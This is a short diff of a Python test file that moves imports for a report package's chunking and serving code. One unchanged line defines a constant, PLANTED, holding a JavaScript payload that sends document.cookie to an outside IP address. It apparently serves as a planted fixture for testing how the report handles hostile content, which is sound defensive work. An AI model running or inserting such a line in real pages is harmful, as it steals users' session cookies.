@@ -10,8 +10,9 @@ import pytest
 from fake_runs import byte_level, metrics, row, save_tokenizer, write_rollouts, write_run
 
 from command_line import dapo
-from dapo.report.chunks import chunk_folder, make_chunks, parse_script, read_table, write_chunks
 from dapo.report.examined import phrases_of
+from dapo.report.rollouts.chunks import make_chunks, parse_script, write_chunks
+from dapo.report.rollouts.recorded import chunk_folder, read_table
 from dapo.report.serve import make_server
 
 PLANTED = 'fetch("http://198.51.100.1/" + document.cookie);\n'
